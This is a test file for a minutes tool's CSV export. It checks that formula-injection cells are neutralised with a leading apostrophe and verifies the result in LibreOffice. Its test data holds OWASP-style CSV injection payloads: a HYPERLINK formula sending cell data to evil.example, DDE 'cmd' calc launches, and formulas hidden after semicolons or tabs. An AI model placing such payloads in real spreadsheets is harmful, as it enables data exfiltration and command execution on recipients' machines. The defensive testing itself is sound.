// Hostile repositories, class "CSV injection": the action register's CSV never holds a cell that a
// spreadsheet reads as a formula (OWASP: cells starting with = + - @, tab or CR get a leading '), whatever
// the action, responsible, status, comment, item title or file name say, nor after a ; or a tab inside a
// cell (where a spreadsheet splitting at those starts one); quotes are doubled. LibreOffice opens the export (comma and semicolon
// separators) and finds no formula, while the same cells written raw do give formulas.
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { csvField } from "../../src/register/register-text.js";
import { readCsv } from "../helpers/csv.js";
import { itWithTools, plainCliEnv, run } from "../helpers/tools.js";

const bin = resolve("bin/minutes.js");
const minutes = (cwd: string, ...args: string[]) =>
  spawnSync(process.execPath, [bin, ...args], { cwd, encoding: "utf8", env: plainCliEnv() });

// Payloads from the OWASP page and its siblings: DDE, HYPERLINK, each trigger character, a leading space,
// a full-width =, a tab or a ; before a formula (a split under another separator would start a cell there).
const actions = [
  `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
  `+cmd\\|' /C calc'!A0`,
  `-2+3+cmd\\|' /C calc'!A0`,
  `@SUM(1+1)*cmd\\|' /C calc'!A0`,
  `- item`,
  `x&#9;=1+1`,
];
const meeting = `---
title: Committee
date: 2024-01-10
attendees: [Ana, Bo, "@Bo"]
---

## =SUM(1+1)

| Action | Responsible | Deadline | Status | Notes |
|---|---|---|---|---|
${actions.map((a, i) => `| ${a} | ${i === 1 ? "@Bo" : "Ana"} | 2030-01-10 | ${i === 2 ? "-1+1" : "open"} | ${["-2", "+1", "y;=1+1", 'He said "hi"', "＝1+1", "done; -5% this year"][i]} |`).join("\n")}
`;

/** A project whose register has every payload; returns the folder and the CSV export. */
function exportCsv(): { dir: string; csv: string } {
  const dir = mkdtempSync(join(tmpdir(), "minutes-csv-"));
  writeFileSync(join(dir, "2024-01-10.md"), meeting);
  // A file name is a cell too (the source column).
  writeFileSync(
    join(dir, "=1+1.md"),
    meeting.replace("2024-01-10", "2024-02-10").replace(/\| - item \|/, "| Book the room |"),
  );
  mkdirSync(join(dir, "out"));
  const r = minutes(dir, "actions", ".", "-f", "csv", "-o", "out/register.csv", "--today", "2024-03-01");
  expect(r.stderr).not.toContain("error:");
  expect(r.status).toBe(0);
  return { dir, csv: readFileSync(join(dir, "out/register.csv"), "utf8") };
}

const formulaStart = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

describe("CSV export", () => {
  it("starts every dangerous cell with ' and keeps the text after it as written", () => {
    const { csv } = exportCsv();
    const [head, ...rows] = readCsv(csv.slice(1));
    expect(rows).toHaveLength(12);
    const cell = (row: string[], name: string) => row[head!.indexOf(name)]!;
    const first = rows.filter((r) => cell(r, "source").startsWith("2024-01-10.md"));
    expect(first.map((r) => cell(r, "action"))).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      `'+cmd|' /C calc'!A0`,
      `'-2+3+cmd|' /C calc'!A0`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      // A text that looks like a list item is text too: Excel would read "- item" as =-item.
      `'- item`,
      "x\t'=1+1",
    ]);
    expect(first.map((r) => cell(r, "comment"))).toEqual([
      "-2",
      "+1",
      "y;'=1+1",
      'He said "hi"',
      "'＝1+1",
      "done;' -5% this year",
    ]);
    expect(cell(first[1]!, "responsible")).toBe("'@Bo");
    expect(cell(first[1]!, "owners")).toBe("'@Bo");
    expect(cell(first[2]!, "status_text")).toBe("'-1+1");
    expect(new Set(rows.map((r) => cell(r, "item")))).toEqual(new Set(["1. =SUM(1+1)"]));
    expect(rows.filter((r) => cell(r, "source").startsWith("'=1+1.md:")).length).toBe(6);
    // Every cell of the file, and every part after a ; a tab or a line break: dangerous only if it is a
    // plain number ("-2", "+1"), which holds no formula.
    for (const part of rows.flat().flatMap((v) => v.split(/(?<=[;\t\n])/)))
      if (formulaStart.test(part)) expect(part).toMatch(/^[+-]\d+$/);
  });

  it("quotes a neutralised cell, doubles quotes and quotes another locale's separators", () => {
    expect(csvField("=1+1")).toBe(`"'=1+1"`);
    expect(csvField(`=HYPERLINK("a")`)).toBe(`"'=HYPERLINK(""a"")"`);
    expect(csvField("a;=1+1")).toBe(`"a;'=1+1"`);
    expect(csvField("a\t=1+1")).toBe(`"a\t'=1+1"`);
    expect(csvField("Ana; Bo")).toBe(`"Ana; Bo"`);
    expect(csvField("a\n@SUM(1)")).toBe(`"a\n'@SUM(1)"`);
    expect(csvField("\t=1+1")).toBe(`"'\t'=1+1"`);
    expect(csvField("\r=1+1")).toBe("␍=1+1"); // a carriage return is shown as ␍, which starts no formula
    expect(csvField("-2")).toBe("-2");
    expect(csvField("-1.5%")).toBe("-1.5%");
    expect(csvField("-")).toBe(`"'-"`);
    expect(csvField("Plain text, with a comma")).toBe(`"Plain text, with a comma"`);
    expect(csvField("plain")).toBe("plain");
  });

  itWithTools("soffice", "unzip")(
    "opens in LibreOffice Calc with no formula, with a comma or a semicolon as separator",
    () => {
      const { dir, csv } = exportCsv();
      // The control: the same cells unneutralised, written the way the export did before. LibreOffice must
      // read formulas in it, or the check below proves nothing.
      const raw = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
      const rows = readCsv(csv.slice(1)).map((row) => row.map((v) => raw(v.replace(/(^|[;\t\n])'/g, "$1"))).join(","));
      writeFileSync(join(dir, "out/control.csv"), `\uFEFF${rows.join("\r\n")}\r\n`);
      const profile = `-env:UserInstallation=file://${join(dir, "lo-profile")}`;
      const sheets = join(dir, "sheets");
      const convert = (filter: string, to: string) =>
        run("soffice", [
          profile,
          "--headless",
          `--infilter=${filter}`,
          "--convert-to",
          to,
          "--outdir",
          sheets,
          join(dir, "out/register.csv"),
          join(dir, "out/control.csv"),
        ]);
      const formulas = (file: string, entry: string, pattern: RegExp) =>
        (run("unzip", ["-p", join(sheets, file), entry]).match(pattern) ?? []).length;

      // Comma, UTF-8, the way the file is meant to be read: an ODS spreadsheet.
      convert("CSV:44,34,76,1", "ods");
      expect(readdirSync(sheets).sort(), "LibreOffice Calc converted nothing: is libreoffice-calc installed?").toEqual([
        "control.ods",
        "register.ods",
      ]);
      expect(formulas("control.ods", "content.xml", /table:formula=/g)).toBeGreaterThanOrEqual(6);
      expect(formulas("register.ods", "content.xml", /table:formula=/g)).toBe(0);
      expect(run("unzip", ["-p", join(sheets, "register.ods"), "content.xml"])).toContain(
        "&apos;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)",
      );

      // Semicolon, as a French or German spreadsheet reads CSV: an XLSX workbook.
      convert("CSV:59,34,76,1", "xlsx");
      expect(formulas("control.xlsx", "xl/worksheets/sheet1.xml", /<f[ >]/g)).toBeGreaterThanOrEqual(1);
      expect(formulas("register.xlsx", "xl/worksheets/sheet1.xml", /<f[ >]/g)).toBe(0);
    },
  );
});
